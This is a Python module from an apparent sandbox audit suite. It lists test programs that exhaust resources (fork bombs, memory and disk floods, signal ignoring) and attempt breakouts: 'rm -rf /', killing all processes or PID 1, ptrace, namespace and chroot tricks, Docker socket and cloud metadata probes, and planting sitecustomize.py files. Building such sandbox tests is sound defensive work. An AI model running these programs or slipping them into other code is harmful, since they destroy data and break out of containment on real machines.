"""Programs that use up or damage the machine they run on. All end by themselves or are ended by a time limit.

Bounds stand in each, so that a sandbox that does not hold costs a machine little; they are still not for a machine
without one.
"""

from __future__ import annotations

from rlpt.audit.attacks.attack import Attack
from rlpt.audit.attacks.programs.source import Body, at_import, built, when_called

_RESOURCES: dict[str, Body] = {
    "a loop": when_called("while True: pass"),
    "a loop at import": at_import("while True: pass"),
    "a sleep": when_called("time.sleep(1000)", "time"),
    "a sleep at import": at_import("import time\ntime.sleep(1000)"),
    "waiting for input": when_called("while True: sys.stdin.read()", "sys"),
    "signals ignored": (
        "import signal\nfor n in range(1, 65):\n    try: signal.signal(n, signal.SIG_IGN)\n"
        "    except (OSError, ValueError): pass\nsignal.alarm(0)",
        "while True: pass",
    ),
    "stopped": when_called("os.kill(os.getpid(), 19)", "os"),
    "descriptors closed": ("import os\nos.closerange(0, 64)", "while True: pass"),
    "every exception caught": when_called(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ),
    "a regular expression": when_called("return re.match('(a+)+$', 'a' * 64 + 'b')", "re"),
    "a power tower": when_called("return 9 ** 9 ** 9"),
    "a sum in C": when_called("return sum(range(10**18))"),
    "output": when_called("while True: print('x' * 1000)"),
    "output at import": at_import("while True: print('x' * 1000)"),
    "errors": when_called("while True: sys.stderr.write('x' * 1000)", "sys"),
    "warnings": when_called("while True: warnings.warn(str(id(object())), stacklevel=1)", "warnings"),
    "memory": when_called("x = []\nfor _ in range(800): x.append(bytearray(b'x' * 10**7))"),
    "memory at once": when_called("return len(b'x' * 10**10)"),
    "memory, caught": when_called(
        "x = []\nfor _ in range(8000):\n    try: x.append(bytearray(10**6))\n    except MemoryError: pass\n"
        "while True: pass"
    ),
    "shared memory": when_called("m = mmap.mmap(-1, 10**9)\nfor _ in range(10): m.write(b'x' * 10**8)", "mmap"),
    "processes": when_called(
        "made = 0\nfor _ in range(400):\n    try:\n        if os.fork() == 0: time.sleep(30); os._exit(0)\n"
        "    except OSError: pass\ntime.sleep(30)",
        "os time",
    ),
    "processes of processes": when_called(
        "for _ in range(9):\n    try: os.fork()\n    except OSError: pass\ntime.sleep(30)\nos._exit(0)", "os time"
    ),
    "threads": when_called(
        "for _ in range(2000):\n    try: threading.Thread(target=time.sleep, args=(30,)).start()\n"
        "    except RuntimeError: pass",
        "threading time",
    ),
    "recursion": when_called("def f(n): return f(n + 1)\nsys.setrecursionlimit(10**9)\nreturn f(0)", "sys"),
    "recursion in C": (
        "import sys\nsys.setrecursionlimit(10**9)\nclass A:\n    def __repr__(self): return repr(self)",
        "return repr(A())",
    ),
    "a bad address": when_called("return ctypes.string_at(8)", "ctypes"),
    "files": when_called(
        "for i in range(1000):\n    try: open(f'{tempfile.gettempdir()}/attack{i}', 'wb').write(b'x' * 10**6)\n"
        "    except OSError: break",
        "tempfile",
    ),
    "many files": when_called(
        "for i in range(100000):\n    try: open(f'{tempfile.gettempdir()}/attack{i}', 'wb').close()\n"
        "    except OSError: break",
        "tempfile",
    ),
    "a file in shared memory": when_called(
        "with open('/dev/shm/attack', 'wb') as file:\n    for _ in range(1000): file.write(b'x' * 10**6)"
    ),
    "open files": when_called("return [open('/dev/null') for _ in range(10**5)]"),
    "a full pipe": when_called("r, w = os.pipe()\nwhile True: os.write(w, b'x' * 10**6)", "os"),
}
_BREAKOUTS = {
    "everything deleted": "import os, shutil\nshutil.rmtree('/', ignore_errors=True)\nos.system('rm -rf /*')",
    "its own folder deleted": "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)",
    "its parent killed": (
        "import os\nfor n in (15, 9, 19):\n    try: os.kill(os.getppid(), n)\n    except OSError: pass"
    ),
    "the first process killed": "import os\nfor n in range(1, 65):\n    try: os.kill(1, n)\n    except OSError: pass",
    "everybody killed": "import os\nos.kill(-1, 9)",
    "its parent limited": (
        "import os, resource\nfor n in range(16):\n    try: resource.prlimit(os.getppid(), n, (0, 0))\n"
        "    except (OSError, ValueError): pass"
    ),
    "its parent slowed": (
        "import os\nfor act in (lambda: os.setpriority(0, os.getppid(), 19), lambda: os.setpriority(2, 0, 19),\n"
        "            lambda: os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))):\n"
        "    try: act()\n    except OSError: pass"
    ),
    "its parent traced": "import ctypes, os\nctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)",
    "new namespaces": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nfor flag in (0x10000000, 0x20000, 0x40000000): libc.unshare(flag)\n"
        "libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)\nlibc.chroot(b'/tmp')"
    ),
    "a way out by sockets": (
        "import socket\nfor address in (('1.1.1.1', 53), ('127.0.0.1', 80), ('169.254.169.254', 80)):\n"
        "    try: socket.create_connection(address, 0.2)\n    except OSError: pass"
    ),
    "an engine's socket": (
        "import socket\ntry:\n    s = socket.socket(socket.AF_UNIX)\n    s.connect('/var/run/docker.sock')\n"
        "    s.send(b'GET /info HTTP/1.0\\n\\n')\nexcept OSError: pass"
    ),
    "a daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            try:
                os.kill(-1, 9)
            except OSError:
                pass
            time.sleep(0.1)
    os._exit(0)
time.sleep(0.2)
""",
    "modules for the next": """
for folder in ('/tmp', '/dev/shm', '/usr/lib/python3/dist-packages', '/usr/local/lib/python3/site-packages'):
    for name in ('sitecustomize.py', 'usercustomize.py', 'conftest.py', 'json.py', 'x.pth'):
        try: open(f'{folder}/{name}', 'w').write('import os; os._exit(0)')
        except OSError: pass
""",
    "a maze of folders": """
import os, tempfile
os.chdir(tempfile.gettempdir())
try:
    for i in range(1500):
        os.mkdir('d')
        os.chdir('d')
    os.symlink('/', 'link')
    os.mkfifo('pipe')
    os.chmod('.', 0)
except OSError:
    pass
""",
    "memory for the next": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmget(7, 1000, 0o1666)\nlibc.msgget(7, 0o1666)\n"
        "libc.semget(7, 1, 0o1666)"
    ),
}


def machine(entry: str | None) -> list[Attack]:
    """All attacks of this file."""
    resources = {f"used up: {name}": body for name, body in _RESOURCES.items()}
    breakouts = {name: at_import(statements) for name, statements in _BREAKOUTS.items()}
    return [
        *built("program: resources", entry, resources, costly=True, harmful=True),
        *built("program: breakout", entry, breakouts, costly=True, harmful=True),
    ]
